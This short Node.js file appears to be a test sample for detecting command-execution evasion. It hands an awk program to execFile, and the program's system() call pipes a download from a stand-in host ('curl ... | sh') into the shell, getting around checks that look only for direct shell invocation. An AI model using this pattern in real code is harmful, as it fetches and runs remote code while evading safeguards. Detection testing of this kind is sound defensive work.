// Evasion: runs a shell through awk. execFile is given awk and an awk
// program (no shell), but the program's system() call hands a command to
// /bin/sh.
'use strict';
const { execFile } = require('child_process');

const prog = 'BEGIN { system("curl -fsSL https://a.example.org/s | sh") }';
execFile('awk', [prog], (err, out) => {
  if (!err) process.stdout.write(out);
});
